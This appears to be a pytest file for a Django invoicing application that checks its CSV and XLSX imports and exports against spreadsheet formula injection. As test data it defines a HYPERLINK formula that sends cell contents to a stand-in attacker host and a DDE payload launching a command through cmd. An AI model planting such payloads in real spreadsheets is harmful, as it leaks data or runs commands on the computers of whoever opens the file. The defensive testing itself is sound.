"""CSV/Excel formula injection: every export writes a cell that would be a formula as text
(OWASP: a leading '), numbers stay numbers, and imports refuse formulas but read back what we
exported."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from fapiao.core.roles import Role
from fapiao.core.spreadsheets import FORMULA_MESSAGE
from fapiao.documents.exports import invoices_csv, invoices_xlsx
from fapiao.domain.lifecycle import RedReason
from fapiao.invoicing.accounts import role_grant, user_create
from fapiao.invoicing.catalog import catalog_save
from fapiao.invoicing.catalog_files import ImportRefused, catalog_export, catalog_import
from fapiao.invoicing.drafts import parse_draft
from fapiao.invoicing.models import Customer, Invoice
from fapiao.invoicing.red_invoices import invoice_issue_red
from fapiao.invoicing.services import invoice_issue
from tests.integration.world import World, make_world

pytestmark = pytest.mark.django_db
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def world() -> World:
    return make_world(credit=None)


def _csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _xlsx_cells(content: bytes) -> list[list[Any]]:
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_catalog_import_refuses_formulas_and_reads_back_its_own_export(world: World) -> None:
    file = f"名称,地址\n{ATTACK},北京\n正常公司,+86 北京\n".encode()
    with pytest.raises(ImportRefused) as caught:
        catalog_import(taxpayer=world.taxpayer, name="customers", content=file,
                       filename="c.csv", actor="admin")  # fmt: skip
    assert [(e.row, e.field, e.message) for e in caught.value.errors] == [
        (2, "name", FORMULA_MESSAGE),
        (3, "address", FORMULA_MESSAGE),
    ]
    assert Customer.objects.count() == 0
    catalog_save(taxpayer=world.taxpayer, name="customers", data={"name": DDE}, actor="admin")
    exported = catalog_export(taxpayer=world.taxpayer, name="customers", format="csv")
    assert _csv_cells(exported)[1][0] == "'" + DDE
    book = catalog_export(taxpayer=world.taxpayer, name="customers", format="xlsx")
    sheet = load_workbook(io.BytesIO(book)).active
    assert sheet is not None
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("'" + DDE, "s")
    Customer.objects.all().delete()
    for content, name in ((exported, "c.csv"), (book, "c.xlsx")):
        catalog_import(taxpayer=world.taxpayer, name="customers", content=content,
                       filename=name, actor="admin")  # fmt: skip
        assert list(Customer.objects.values_list("name", flat=True)) == [DDE]


def test_invoice_and_audit_exports_neutralise_text_and_keep_numbers(world: World) -> None:
    line = {"name": "软件开发服务", "tax_code": "3040201010000000000", "rate": "6%",
            "amount": "100"}  # fmt: skip
    blue = invoice_issue(
        taxpayer=world.taxpayer, channel=world.device, request_id=None, actor="clerk",
        draft=parse_draft({"kind": "VAT_ORDINARY_ELECTRONIC", "buyer": {"name": "某公司"},
                           "lines": [line], "remarks": ATTACK, "drawer": "-张三"}),
    )  # fmt: skip
    invoice_issue_red(blue=blue, actor="clerk", reason=RedReason.RETURN)
    invoices = Invoice.objects.order_by("pk")
    rows = _csv_cells(invoices_csv(invoices))
    header = rows[0]
    first, red = dict(zip(header, rows[1], strict=True)), dict(zip(header, rows[2], strict=True))
    assert (first["备注"], first["开票人"]) == ("'" + ATTACK, "'-张三")
    assert red["价税合计"] == "-106.00"  # a number, not text
    cells = _xlsx_cells(invoices_xlsx(invoices))
    book = dict(zip(cells[0], cells[2], strict=True))
    assert book["价税合计"] == pytest.approx(-106) and not isinstance(book["价税合计"], str)
    assert dict(zip(cells[0], cells[1], strict=True))["备注"] == "'" + ATTACK
    admin = user_create(username="shenji", password="Str0ng#Pass")
    role_grant(user=admin, role=Role.AUDITOR, taxpayer=world.taxpayer, actor="admin")
    attacker = Client(HTTP_HOST="localhost", HTTP_USER_AGENT="=1+2")
    attacker.post("/accounts/login/", {"username": "shenji", "password": "wrong"})
    auditor = Client(HTTP_HOST="localhost")
    auditor.force_login(admin)
    exported = auditor.get("/audit/?export=csv")
    assert exported.status_code == 200
    rows = _csv_cells(exported.content)
    agents = [row[rows[0].index("浏览器")] for row in rows[1:]]
    assert "'=1+2" in agents and "=1+2" not in agents
